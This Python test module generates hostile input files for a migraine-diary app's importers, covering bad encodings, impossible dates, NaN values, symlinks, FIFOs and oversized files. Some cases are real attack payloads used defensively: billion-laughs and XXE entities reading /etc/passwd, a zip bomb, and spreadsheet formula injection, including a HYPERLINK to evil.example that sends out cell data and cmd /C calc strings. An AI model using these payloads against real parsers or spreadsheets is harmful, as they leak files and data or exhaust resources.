"""A corpus of hostile files for every importer, generated fresh into a folder.

Why generated, not stored: some of these cannot live in a repository (a FIFO, a link to
/dev/zero, a sparse file of 4 GiB), and the rest are clearer as the one change each
makes to a valid file. Every case names what it tests; ``expect`` says whether the
file must be refused ("refused": a clear error, nothing stored), must import
("imported": odd but legitimate, such as a byte-order mark or CRLF lines), or may go
either way as long as it is clean ("either").

``painlink.diary.files.LIMITS`` gives the size limits the "over the limit" cases pass.
"""

from __future__ import annotations

import json
import os
import random
from dataclasses import dataclass
from pathlib import Path

from painlink.diary.files import LIMITS

SOURCES = ("painlink", "migraine-buddy", "apple-health", "clue", "fhir")


@dataclass(frozen=True)
class Hostile:
    name: str
    source: str  # painlink (a folder) | migraine-buddy | apple-health | clue | fhir
    path: Path
    expect: str = "refused"  # refused | imported | either
    web: bool = True  # False: not an upload (a folder, or a link, device, FIFO)
    special: bool = False  # a link, device, FIFO, folder or missing path, not a file's bytes
    cli_expect: str | None = None  # when the CLI (which only scores FHIR) expects otherwise

    def __str__(self) -> str:
        return f"{self.source}:{self.name}"


# ----------------------------------------------------------------- valid templates

MB_HEADER = (
    '"#","Started","Lasted","Start UTC Offset (min)","End UTC Offset (min)","Geohash",'
    '"Attack Types","Attack Location","Pain Level","Affected Activities","Potential Triggers",'
    '"Symptoms","Most Bothersome Symptom","Premonitory Symptoms","Pain Positions",'
    '"Helpful Medication","Somewhat Helpful Medication","Unhelpful Medication",'
    '"Unsure Medication","Helpful Non Drug Relief Methods",'
    '"Somewhat Helpful Non Drug Relief Methods","Unhelpful Non Drug Relief Methods",'
    '"Unsure Non Drug Relief Methods","Notes"'
)
MB_ONGOING = '"Date","Time Period","Description","Notes"\n"No ongoing events.","","",""\n'


def mb_row(
    started: str = "11/16/24 13:12",
    lasted: str = "01h 00m",
    level: str = "4",
    notes: str = "",
    number: int = 1,
) -> str:
    cells = [
        str(number),
        started,
        lasted,
        "0",
        "0",
        "",
        "",
        "",
        level,
        "",
        "Stress",
        "Sensitivity to light, Throbbing pain",
        "",
        "",
        "Right Temple",
        "Ibuprofen",
        "",
        "",
        "",
        "",
        "",
        "",
        "",
        notes,
    ]
    return ",".join('"' + c.replace('"', '""') + '"' for c in cells)


def mb_text(*rows: str, ongoing: str = MB_ONGOING) -> str:
    return ongoing + "\n" + MB_HEADER + "\n" + "\n".join(rows or (mb_row(),)) + "\n"


AH_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def ah_record(
    start: str = "2024-03-01 09:00:00 +0100",
    end: str = "2024-03-01 13:00:00 +0100",
    kind: str = "HKCategoryTypeIdentifierHeadache",
    value: str = "HKCategoryValueSeverityModerate",
) -> str:
    return (
        f' <Record type="{kind}" sourceName="Health" startDate="{start}" endDate="{end}" '
        f'value="{value}"/>\n'
    )


def ah_text(*records: str, me: str = "1985-04-02", extra: str = "", doctype: str = "") -> str:
    return (
        AH_HEAD
        + doctype
        + '<HealthData locale="en_GB">\n <ExportDate value="2024-03-10 10:00:00 +0100"/>\n'
        + f' <Me HKCharacteristicTypeIdentifierDateOfBirth="{me}" '
        + 'HKCharacteristicTypeIdentifierBiologicalSex="HKBiologicalSexFemale"/>\n'
        + "".join(records or (ah_record(),))
        + extra
        + "</HealthData>\n"
    )


def clue_text(*entries: object) -> str:
    days = entries or ({"day": "2024-03-01T00:00:00Z", "period": "heavy", "pain": ["cramps"]},)
    return json.dumps({"data": list(days)})


def fhir_doc() -> dict[str, object]:
    """A complete MIDAS QuestionnaireResponse (the instrument's five day-counts)."""
    return {
        "resourceType": "QuestionnaireResponse",
        "status": "completed",
        "questionnaire": "http://loinc.org/q/58604-0",
        "authored": "2024-03-01T10:30:00+01:00",
        "item": [{"linkId": f"midas-{i}", "answer": [{"valueInteger": 2}]} for i in range(1, 6)],
    }


def fhir_text(**changes: object) -> str:
    return json.dumps(fhir_doc() | changes)


PATIENTS = "patient_id,display_name,time_zone,birth_year\nP1,Ana,Europe/Berlin,1988\n"
DAYS = "patient_id,date,sleep_hours,temperature_c\nP1,2024-03-01,7.5,-4\n"
ATTACKS = "patient_id,attack_id,start,end,intensity,notes\nP1,a1,2024-03-01T09:00,2024-03-01T13:00,2,bad\n"  # noqa: E501
MANIFEST = '{"format": "painlink-diary-csv", "version": 2}\n'


def _folder(root: Path, name: str, **files: str | bytes) -> Path:
    """A diary folder: the valid files, with ``files`` replacing or adding some."""
    folder = root / name
    folder.mkdir(parents=True)
    base: dict[str, str | bytes] = {
        "patients.csv": PATIENTS,
        "days.csv": DAYS,
        "attacks.csv": ATTACKS,
        "painlink.json": MANIFEST,
    }
    for file, content in (base | files).items():
        data = content.encode() if isinstance(content, str) else content
        (folder / file).write_bytes(data)
    return folder


# ----------------------------------------------------------------- the corpus

_EXT = {"migraine-buddy": "csv", "apple-health": "xml", "clue": "cluedata", "fhir": "json"}


def _byte_cases(source: str, valid: str, non_ascii_at: str) -> list[tuple[str, bytes, str]]:
    """The same damage done to every text format: (name, bytes, expect)."""
    data = valid.encode()
    latin = valid.replace(non_ascii_at, non_ascii_at + "é", 1)
    rng = random.Random(source)
    cases = [
        ("empty", b"", "refused"),
        ("truncated", data[: len(data) // 2], "refused"),
        ("nul-bytes", data[:40] + b"\x00\x00" + data[40:], "refused"),
        ("utf16-no-bom", valid.encode("utf-16-le"), "refused"),
        ("latin1", latin.encode("latin-1"), "refused"),
        ("binary", rng.randbytes(4096), "refused"),
        ("utf8-bom", b"\xef\xbb\xbf" + data, "imported"),
        ("crlf", data.replace(b"\n", b"\r\n"), "imported"),
        # a declared UTF-8 XML in UTF-16 may be refused by expat; the others decode it
        ("utf16-bom", valid.encode("utf-16"), "either" if source == "apple-health" else "imported"),
    ]
    return cases


def _special(root: Path, source: str, ext: str) -> list[Hostile]:
    """What only a local path can be: links, devices, FIFOs, folders, nothing."""
    base = root / source / "special"
    base.mkdir(parents=True)
    zero = base / f"dev-zero.{ext}"
    zero.symlink_to("/dev/zero")
    broken = base / f"broken-link.{ext}"
    broken.symlink_to(base / "nowhere")
    fifo = base / f"fifo.{ext}"
    os.mkfifo(fifo)
    folder = base / f"a-folder.{ext}"
    folder.mkdir()
    over = base / f"over-limit.{ext}"
    with over.open("wb") as handle:  # sparse: takes no disk
        handle.truncate(LIMITS[source] + 1)
    return [
        Hostile("symlink-to-dev-zero", source, zero, web=False, special=True),
        Hostile("broken-symlink", source, broken, web=False, special=True),
        Hostile("fifo", source, fifo, web=False, special=True),
        Hostile("a-folder", source, folder, web=False, special=True),
        Hostile("missing", source, base / f"missing.{ext}", web=False, special=True),
        Hostile("over-size-limit", source, over, web=False, special=True),
    ]


def _zip_bomb() -> bytes:
    """A small zip that would unpack to 256 MB (an iPhone exports export.zip)."""
    import io
    import zipfile

    buffer = io.BytesIO()
    block = b"\0" * (1 << 20)
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("export.xml", "w", force_zip64=True) as member,
    ):
        for _ in range(256):
            member.write(block)
    return buffer.getvalue()


def _deep_json(levels: int) -> str:
    return '{"data": ' + "[" * levels + "]" * levels + "}"


def _app_cases(source: str) -> list[tuple[str, str | bytes, str]]:
    """Damage particular to one format: (name, content, expect)."""
    huge = "x" * 2_000_000
    if source == "migraine-buddy":
        formula = '=HYPERLINK("http://evil.example/?"&A1,"help")'
        return [
            ("header-only", MB_ONGOING + "\n" + MB_HEADER + "\n", "either"),
            ("no-blank-line", MB_ONGOING + MB_HEADER + "\n" + mb_row() + "\n", "refused"),
            ("wrong-delimiter", mb_text().replace('","', '";"'), "refused"),
            ("lasted-99999999d", mb_text(mb_row(lasted="99999999d 00h 00m")), "refused"),
            ("lasted-40-days", mb_text(mb_row(lasted="40d 00h 00m")), "refused"),
            ("started-2068", mb_text(mb_row(started="01/01/68 10:00")), "refused"),
            ("started-feb-30", mb_text(mb_row(started="02/30/24 10:00")), "refused"),
            ("level-nan", mb_text(mb_row(level="NaN")), "refused"),
            ("level-inf", mb_text(mb_row(level="inf")), "refused"),
            ("level-1e308", mb_text(mb_row(level="1e308")), "refused"),
            ("level-negative", mb_text(mb_row(level="-1")), "refused"),
            ("huge-notes", mb_text(mb_row(notes=huge)), "refused"),
            (
                "million-columns",
                mb_text(mb_row()).replace(MB_HEADER, MB_HEADER + ',"c"' * 10**6),
                "refused",
            ),
            (
                "formula-notes",
                mb_text(
                    mb_row(notes=formula),
                    mb_row("11/17/24 09:00", notes="@SUM(1+1)*cmd|' /C calc'!A0", number=2),
                ),
                "imported",
            ),
            ("duplicate-attack", mb_text(mb_row(), mb_row()), "either"),
            (
                "ongoing-bad-date",
                mb_text(
                    ongoing=MB_ONGOING.replace(
                        '"No ongoing events.","","",""',
                        '"11/21/24","Ongoing","Attack started 13/45/24 99:99",""',
                    )
                ),
                "refused",
            ),
            ("unterminated-quote", mb_text(mb_row()).rstrip('"\n') + "\n", "either"),
        ]
    if source == "apple-health":
        laughs = (
            '<!DOCTYPE HealthData [\n <!ENTITY lol "lol">\n'
            + "".join(
                f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'  # noqa: E501
                for i in range(1, 10)
            )
            + "]>\n"
        )
        xxe = '<!DOCTYPE HealthData [\n <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
        summary = ' <ActivitySummary dateComponents="2024-03-01" appleExerciseTime="{}"/>\n'
        return [
            ("billion-laughs", ah_text(extra=" <Note>&lol9;</Note>\n", doctype=laughs), "refused"),
            ("external-entity", ah_text(extra=" <Note>&xxe;</Note>\n", doctype=xxe), "refused"),
            (
                "unclosed-doctype",
                AH_HEAD + "<!DOCTYPE HealthData [\n" + ah_text()[len(AH_HEAD) :],
                "refused",
            ),
            (
                "year-0001-offset",
                ah_text(ah_record("0001-01-01 00:10:00 +0100", "0001-01-01 00:20:00 +0100")),
                "refused",
            ),
            (
                "year-9999-offset",
                ah_text(ah_record("9999-12-31 23:00:00 -0100", "9999-12-31 23:50:00 -0100")),
                "refused",
            ),
            (
                "year-1850",
                ah_text(ah_record("1850-01-01 09:00:00 +0000", "1850-01-01 10:00:00 +0000")),
                "refused",
            ),
            ("birth-year-1800", ah_text(me="1800-01-01"), "refused"),
            ("birth-year-9999", ah_text(me="9999-01-01"), "refused"),
            ("exercise-nan", ah_text(extra=summary.format("NaN")), "refused"),
            ("exercise-inf", ah_text(extra=summary.format("inf")), "refused"),
            ("exercise-negative", ah_text(extra=summary.format("-30")), "refused"),
            ("exercise-1e308", ah_text(extra=summary.format("1e308")), "refused"),
            (
                "workout-backwards",
                ah_text(
                    extra=' <Workout startDate="2024-03-01 10:00:00 +0100" '
                    'endDate="2024-03-01 09:00:00 +0100"/>\n'
                ),
                "refused",
            ),
            (
                "headache-200-years",
                ah_text(ah_record("1901-03-01 09:00:00 +0100", "2023-03-01 13:00:00 +0100")),
                "refused",
            ),
            ("deep-elements", ah_text(extra="<a>" * 200_000 + "</a>" * 200_000), "either"),
            ("zip-bomb", _zip_bomb(), "refused"),  # no importer unzips: refused as not XML
            ("rich-markup-type", ah_text(extra=' <Record type="[/x]" value="1"/>\n'), "imported"),
            ("not-xml", "this is not XML at all\n", "refused"),
            ("no-healthdata", AH_HEAD + "<Other/>\n", "refused"),
            ("huge-attribute", ah_text(extra=f' <Record type="X" value="{huge}"/>\n'), "either"),
            ("bad-severity", ah_text(ah_record(value="HKCategoryValueSeverityExtreme")), "refused"),
        ]
    if source == "clue":
        return [
            ("deep-json-200k", _deep_json(200_000), "refused"),
            ("deep-json-100", _deep_json(100), "refused"),
            ("top-level-list", "[]", "refused"),
            ("data-not-list", '{"data": {"day": "2024-01-01"}}', "refused"),
            ("day-0001", clue_text({"day": "0001-01-01T00:00:00Z", "period": "light"}), "refused"),
            ("day-9999", clue_text({"day": "9999-12-31T00:00:00Z", "period": "light"}), "refused"),
            ("day-object", clue_text({"day": {"y": 2024}, "period": "light"}), "refused"),
            ("period-number", clue_text({"day": "2024-03-01", "period": 7}), "refused"),
            ("nan-constant", '{"data": [{"day": "2024-03-01", "period": NaN}]}', "refused"),
            (
                "huge-integer",
                '{"data": [{"day": "2024-03-01", "n": ' + "9" * 100_000 + "}]}",
                "refused",
            ),
            (
                "duplicate-days",
                clue_text(
                    {"day": "2024-03-01", "period": "light"},
                    {"day": "2024-03-01", "period": "heavy"},
                ),
                "imported",
            ),
            ("lone-surrogate", '{"data": [{"day": "2024-03-01", "period": "\\ud800"}]}', "refused"),
        ]
    if source == "fhir":
        deep = fhir_doc() | {"item": "PLACEHOLDER"}
        nested = json.dumps(deep).replace('"PLACEHOLDER"', "[" * 100_000 + "]" * 100_000)
        answers = [
            {"linkId": f"midas-{i}", "answer": [{"valueInteger": 2}] * 100_000} for i in range(1, 6)
        ]
        return [
            ("deep-json", nested, "refused"),
            ("authored-0001", fhir_text(authored="0001-01-01T00:00:00+14:00"), "refused"),
            ("authored-9999", fhir_text(authored="9999-12-31T23:59:59-12:00"), "refused"),
            ("authored-2999", fhir_text(authored="2999-01-01"), "refused"),
            ("authored-1850", fhir_text(authored="1850-06-01T10:00:00Z"), "refused"),
            (
                "nan-answer",
                fhir_text().replace('"valueInteger": 2', '"valueInteger": NaN', 1),
                "refused",
            ),
            (
                "answer-1e308",
                fhir_text().replace('"valueInteger": 2', '"valueDecimal": 1e308', 1),
                "refused",
            ),
            (
                "huge-integer",
                fhir_text().replace('"valueInteger": 2', '"valueInteger": ' + "9" * 5000, 1),
                "refused",
            ),
            ("a-patient", json.dumps({"resourceType": "Patient", "id": "p"}), "refused"),
            ("json-list", "[1, 2, 3]", "refused"),
            ("many-answers", fhir_text(item=answers), "refused"),
        ]
    raise ValueError(source)


def _painlink_cases(root: Path) -> list[Hostile]:
    """Damaged diary folders (the CLI's ``painlink import FOLDER``)."""
    base = root / "painlink"
    cases: list[tuple[str, dict[str, str | bytes], str]] = [
        ("valid", {}, "imported"),
        (
            "patients-latin1",
            {"patients.csv": PATIENTS.replace("Ana", "Anaïs").encode("latin-1")},
            "refused",
        ),
        ("patients-utf16-bom", {"patients.csv": PATIENTS.encode("utf-16")}, "imported"),
        ("patients-utf16-no-bom", {"patients.csv": PATIENTS.encode("utf-16-le")}, "refused"),
        ("patients-utf8-bom", {"patients.csv": b"\xef\xbb\xbf" + PATIENTS.encode()}, "imported"),
        ("patients-empty", {"patients.csv": ""}, "refused"),
        ("patients-wrong-delimiter", {"patients.csv": PATIENTS.replace(",", ";")}, "refused"),
        ("patients-birth-1800", {"patients.csv": PATIENTS.replace("1988", "1800")}, "refused"),
        ("days-nul", {"days.csv": DAYS.replace("7.5", "7\x00.5")}, "refused"),
        ("days-crlf", {"days.csv": DAYS.replace("\n", "\r\n")}, "imported"),
        ("days-header-only", {"days.csv": DAYS.splitlines()[0] + "\n"}, "imported"),
        ("days-million-columns", {"days.csv": "patient_id,date" + ",f" * 10**6 + "\n"}, "refused"),
        (
            "attacks-huge-field",
            {"attacks.csv": ATTACKS.replace(",bad", ',"' + "x\n" * 100_000 + '"')},
            "refused",
        ),
        ("days-year-0001", {"days.csv": DAYS.replace("2024-03-01", "0001-01-01")}, "refused"),
        ("days-year-9999", {"days.csv": DAYS.replace("2024-03-01", "9999-12-31")}, "refused"),
        ("days-sleep-nan", {"days.csv": DAYS.replace("7.5", "NaN")}, "refused"),
        ("days-sleep-inf", {"days.csv": DAYS.replace("7.5", "inf")}, "refused"),
        ("days-sleep-1e308", {"days.csv": DAYS.replace("7.5", "1e308")}, "refused"),
        ("days-sleep-negative", {"days.csv": DAYS.replace("7.5", "-1")}, "refused"),
        ("days-duplicate", {"days.csv": DAYS + DAYS.splitlines()[1] + "\n"}, "refused"),
        ("days-rich-markup", {"days.csv": DAYS.replace("7.5", "[/x]")}, "refused"),
        ("days-ragged-row", {"days.csv": DAYS + "P1,2024-03-02,7,1,extra,more\n"}, "refused"),
        (
            "attacks-year-9999",
            {"attacks.csv": ATTACKS.replace("2024-03-01T13:00", "9999-03-01T13:00")},
            "refused",
        ),
        ("attacks-truncated-quote", {"attacks.csv": ATTACKS.replace(",bad", ',"bad')}, "refused"),
        (
            "attacks-duplicate-ids",
            {"attacks.csv": ATTACKS + ATTACKS.splitlines()[1] + "\n"},
            "refused",
        ),
        (
            "attacks-formula-notes",
            {"attacks.csv": ATTACKS.replace(",bad", ",\"=cmd|' /C calc'!A0\"")},
            "imported",
        ),
        ("manifest-deep", {"painlink.json": _deep_json(200_000)}, "refused"),
        ("manifest-list", {"painlink.json": "[1]"}, "refused"),
        (
            "manifest-latin1",
            {"painlink.json": '{"format": "caf\xe9"}'.encode("latin-1")},
            "refused",
        ),
    ]
    out = [
        Hostile(name, "painlink", _folder(base, name, **files), expect, web=False)
        for name, files, expect in cases
    ]
    # links, devices and FIFOs in place of one of the folder's files
    for name, make in (
        ("days-symlink-dev-zero", lambda p: p.symlink_to("/dev/zero")),
        ("attacks-broken-symlink", lambda p: p.symlink_to(p.parent / "nowhere.csv")),
        ("days-fifo", os.mkfifo),
    ):
        folder = _folder(base, name)
        target = folder / ("attacks.csv" if "attacks" in name else "days.csv")
        target.unlink()
        make(target)
        out.append(Hostile(name, "painlink", folder, web=False, special=True))
    over = _folder(base, "days-over-size-limit")
    with (over / "days.csv").open("r+b") as handle:
        handle.truncate(LIMITS["painlink"] + 1)
    out.append(Hostile("days-over-size-limit", "painlink", over, web=False, special=True))
    out.append(Hostile("missing-folder", "painlink", base / "missing", web=False, special=True))
    link = base / "broken-link-folder"
    link.symlink_to(base / "nowhere")
    out.append(Hostile("broken-link-folder", "painlink", link, web=False, special=True))
    file = base / "a-file"
    file.write_text(PATIENTS)
    out.append(Hostile("a-file-not-a-folder", "painlink", file, web=False))
    zipped = base / "painlink-P1.zip"  # what the account page's export gives
    zipped.write_bytes(_zip_bomb())
    out.append(Hostile("a-zip-not-a-folder", "painlink", zipped, web=False))
    return out


def hostile_corpus(root: str | Path) -> list[Hostile]:
    """Write every hostile case under ``root`` and list them."""
    root = Path(root)
    out = _painlink_cases(root)
    valid = {
        "migraine-buddy": (mb_text(), "Stress"),
        "apple-health": (ah_text(), 'locale="en_GB"'),
        "clue": (clue_text(), "cramps"),
        "fhir": (fhir_text(), "completed"),
    }
    for source, (text, anchor) in valid.items():
        ext = _EXT[source]
        folder = root / source
        folder.mkdir(parents=True, exist_ok=True)
        cases: list[tuple[str, str | bytes, str]] = [("valid", text, "imported")]
        cases += _byte_cases(source, text, anchor)
        cases += _app_cases(source)
        for name, content, expect in cases:
            path = folder / f"{name}.{ext}"
            path.write_bytes(content.encode() if isinstance(content, str) else content)
            # `painlink score` only scores a response: when it was written does not matter
            cli = "either" if source == "fhir" and name.startswith("authored") else None
            out.append(Hostile(name, source, path, expect, cli_expect=cli))
        out += _special(root, source, ext)
    return out


if __name__ == "__main__":  # python -m tests.hostile_files FOLDER: write the corpus there
    import sys

    corpus = hostile_corpus(sys.argv[1])
    print(f"{len(corpus)} hostile files under {sys.argv[1]}")
